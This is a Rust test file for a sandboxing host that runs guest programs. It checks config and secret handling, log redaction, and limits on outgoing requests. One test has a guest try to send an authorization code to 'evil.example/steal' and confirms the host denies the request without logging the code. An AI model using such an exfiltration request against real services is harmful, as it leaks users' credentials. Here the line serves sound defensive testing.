//! What a guest can see besides its request, and what the host denies. `guest/probe` reports both.

use std::path::PathBuf;

use crate::support::guest;
use crate::support::host::{Finished, Host};

fn probe() -> Host {
    Host::run().arg(guest::built("probe"))
}

/// The lines of the page of the probe for this query.
#[track_caller]
fn seen(host: Host, query: &str) -> Vec<String> {
    let page = host.start().navigate(&format!("/callback?{query}"));
    assert_eq!(page.status(), 200, "{}", page.text());
    page.text().lines().map(str::to_owned).collect()
}

#[track_caller]
fn configured(host: Host) -> Vec<String> {
    let mut lines = seen(host, "");
    lines.retain(|line| line.starts_with("config "));
    lines
}

#[track_caller]
fn refused(host: Host) -> Finished {
    host.finish().code(2).stdout("")
}

fn toml(text: &str) -> PathBuf {
    guest::write(&format!("config-{}.toml", text.len()), text.as_bytes())
}

#[test]
fn a_guest_gets_no_configuration_without_a_grant() {
    assert_eq!(configured(probe()), Vec::<String>::new());
}

#[test]
fn flags_override_values_from_a_file() {
    let file = toml(
        "title = \"Hi\"\nretries = 3\nbeta = true\n[provider]\nurl = \"https://a\"\nid = \"x\"\n",
    );
    let host = probe().arg("--config-file").arg(file);
    assert_eq!(
        configured(host.args(["--config", "provider.id=y=z", "--config", "empty="])),
        [
            "config beta: true",
            "config empty: ",
            "config provider.id: y=z",
            "config provider.url: https://a",
            "config retries: 3",
            "config title: Hi",
        ]
    );
}

/// `provider_attacks` shows that their values arrive where they are sent.
#[test]
fn secrets_are_no_variables_and_come_from_the_environment_and_from_files() {
    let file = guest::write("secret.txt", b"two\nlines\r\n");
    let host = probe()
        .env("PROBE_SECRET", "hunter2")
        .args(["--config", "c=plain", "--secret", "a=env:PROBE_SECRET", "--secret"])
        .arg(format!("b=file:{}", file.display()));
    let hand_over = |name: &str| format!("do=hand-over+x+secret+{name}");
    let lines = seen(host, &["a", "b", "c", "d"].map(hand_over).join("&"));
    let (missing, held) = ("hand-over: no such secret", "hand-over: not-from-an-answer");
    assert_eq!(lines[..4], [held, held, missing, missing]);
    let shown: Vec<_> = lines.iter().filter(|line| line.starts_with("config ")).collect();
    assert_eq!(shown, ["config c: plain"]);
    assert!(!lines.concat().contains("hunter2") && !lines.concat().contains("lines"));
}

#[test]
fn a_secret_that_a_guest_logs_is_redacted() {
    let file = guest::write("secret-lines.txt", b"first line\nsecond line\n");
    let host = probe()
        .env("PROBE_SECRET", "hunter2")
        .args(["-v", "--secret", "a=env:PROBE_SECRET", "--secret"])
        .arg(format!("b=file:{}", file.display()))
        .start();
    // A variable with the name of a secret does not exist.
    host.navigate(
        "/callback?leak=a&log=first+line&log=second+line&log=%5Bhunter2%5D+hunter&log=end",
    );
    host.wait_for_line("[guest] end");
    let stderr = host.stderr();
    for secret in ["hunter2", "first line", "second line"] {
        assert!(!stderr.contains(secret), "{stderr}");
    }
    assert!(stderr.contains("[guest] [[redacted]] hunter\n"), "{stderr}");
}

/// The host splits log lines after 4 KiB, here in the middle of the secret.
#[test]
fn a_secret_in_a_long_log_line_is_redacted() {
    let host = probe().env("PROBE_SECRET", "hunter2").args(["--secret", "a=env:PROBE_SECRET"]);
    let host = host.start();
    host.navigate(&format!("/callback?log={}hunter2&log=end", "x".repeat(4092)));
    host.wait_for_line("[guest] end");
    let stderr = host.stderr();
    assert!(!stderr.contains("hunt") && !stderr.contains("ter2"));
    assert!(stderr.contains("x[red\n[guest] acted]\n"));
}

#[test]
fn a_secret_on_the_command_line_is_refused_and_not_repeated() {
    refused(probe().args(["--secret", "client_secret=hunter2"])).stderr(
        "error: invalid secret `client_secret`: expected `NAME=env:VARIABLE` or `NAME=file:PATH`\n\
         hint: put the secret into an environment variable or a file: other users can read a command line\n",
    );
    refused(probe().args(["--secret", "hunter2"])).stderr(
        "error: invalid secret: expected `NAME=env:VARIABLE` or `NAME=file:PATH`\n\
         hint: put the secret into an environment variable or a file: other users can read a command line\n",
    );
}

#[test]
fn a_missing_value_is_an_error_before_the_host_listens() {
    let missing = refused(probe().args(["--secret", "a=env:PROBE_NOT_SET"]));
    missing.stderr(
        "error: cannot read the secret `a`: the environment variable `PROBE_NOT_SET` is not set\n",
    );
    refused(probe().args(["--secret", "a=file:/nowhere/a"])).stderr(
        "error: cannot read the secret `a` from `/nowhere/a`\n\
         Caused by:\n    No such file or directory (os error 2)\n",
    );
    refused(probe().env("PROBE_SECRET", "").args(["--secret", "a=env:PROBE_SECRET"]))
        .stderr("error: the secret `a` is empty\n");
    refused(probe().args(["--config", "novalue"]))
        .stderr("error: missing `=` in --config `novalue`: expected `NAME=VALUE`\n");
    refused(probe().args(["--config", "=x"]))
        .stderr("error: missing name before the `=` in --config: expected `NAME=VALUE`\n");
    refused(probe().args(["--secret", "=env:PROBE_SECRET"])).stderr(
        "error: missing name before the `=` in --secret: \
         expected `NAME=env:VARIABLE` or `NAME=file:PATH`\n",
    );
    refused(probe().args(["--config", "a=1", "--config", "a=2"]))
        .stderr("error: duplicate variable `a`\n");
    refused(probe().env("S", "s").args(["--config", "a=1", "--secret", "a=env:S"]))
        .stderr("error: duplicate variable `a`\n");
    refused(probe().env("S", "s").args(["--secret", "a=env:S", "--secret", "a=env:S"]))
        .stderr("error: duplicate secret `a`\n");
}

#[test]
fn an_invalid_configuration_shows_the_place() {
    for (text, message) in [
        ("a = 1\nb = = 2\n", "invalid TOML in `FILE` at line 2, column 5: "),
        (
            "[t]\nlist = [\"a\"]\n",
            "invalid variable `t.list` in `FILE`: expected text, a number or a boolean, got a list",
        ),
    ] {
        let file = toml(text);
        let finished = refused(probe().arg("--config-file").arg(&file));
        let stderr = finished.stderr.replace(&file.display().to_string(), "FILE");
        assert!(stderr.contains(message), "{stderr}");
    }
    let binary = guest::write("binary.toml", b"\xff\xfe\x00");
    let stderr = refused(probe().arg("--config-file").arg(binary)).stderr;
    assert!(stderr.contains("it is not valid UTF-8"), "{stderr}");
    let large = guest::write("large.toml", &vec![b'\n'; (1 << 20) + 1]);
    let stderr = refused(probe().arg("--config-file").arg(large)).stderr;
    assert!(stderr.contains("it is larger than 1 MiB"), "{stderr}");
}

#[test]
fn an_outgoing_request_fails_with_an_ordinary_error() {
    let events = guest::private("outgoing.jsonl", b"");
    let host = probe().arg("--events").arg(&events).start();
    let page = host.navigate("/callback?code=hunter2&ask=https://evil.example/steal?code=hunter2");
    assert_eq!(page.text().lines().next(), Some("ask: ErrorCode::HttpRequestDenied"));
    assert_eq!(page.status(), 200);
    host.wait_for_line(
        "warning: refused the guest's request to `https://evil.example`: it is not granted; \
         allow it with `--allow-net https://evil.example`",
    );
    assert!(!host.stderr().contains("hunter2"), "{}", host.stderr());
    let events = std::fs::read_to_string(events).unwrap();
    assert!(events.contains("\"event\":\"outgoing-refused\""), "{events}");
    assert!(!events.contains("evil"), "{events}");
}

#[test]
fn a_guest_that_sends_too_many_requests_is_ended() {
    let host = probe().args(["--max-outgoing-requests", "3"]).start();
    let query = "ask=https://a.example&".repeat(1000);
    for _ in 0..3 {
        assert_eq!(host.navigate(&format!("/callback?{query}")).status(), 500);
    }
    host.wait_for_line(
        "the guest reached its limit of 3 outgoing requests: still waiting; \
         raise it with `--max-outgoing-requests`",
    );
    let stderr = host.stderr();
    assert_eq!(stderr.matches("refused the guest's request to").count(), 1, "{stderr}");
    host.signal("TERM");
    let stderr = host.finish().code(143).stderr;
    let sum = "warning: refused 2 more requests from the guest to other hosts\n";
    assert_eq!(stderr.matches(sum).count(), 1, "{stderr}");
}

#[test]
fn the_clock_advances_and_random_bytes_differ_between_calls() {
    let [first, second] = [0, 1].map(|_| seen(probe(), "sleep=20"));
    let now = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_secs();
    let time = first[0].strip_prefix("time: ").unwrap().split('.').next().unwrap();
    assert!(now.abs_diff(time.parse::<u64>().unwrap()) < 3600, "{time}");
    let took: u64 = first[1]["took: ".len()..first[1].len() - " ms".len()].parse().unwrap();
    assert!((20..30_000).contains(&took), "{took}");
    for (line, other) in first[2..5].iter().zip(&second[2..5]) {
        assert_ne!(line, other);
    }
}

#[test]
fn a_guest_that_cannot_exchange_its_code_reports_a_failure() {
    let host = Host::run()
        .arg(guest::built("exchange"))
        .args(["--config", "client_id=id", "--config", "token_endpoint=https://idp.example/token"])
        .start();
    let page = host.navigate("/callback?code=hunter2");
    assert!(page.text().contains("The URL was not granted"), "{}", page.text());
    host.wait_for_line(
        "warning: refused the guest's request to `https://idp.example/token`: it is not granted; \
         allow it with `--allow-net https://idp.example/token`",
    );
    host.finish().code(1).stdout(
        "{\"error\":\"token_request_failed\",\"error_description\":\"`https://idp.example/token` gave no answer. \
         The URL was not granted, or not for secrets. The host tells the person which flag grants it.\"}\n",
    );
}
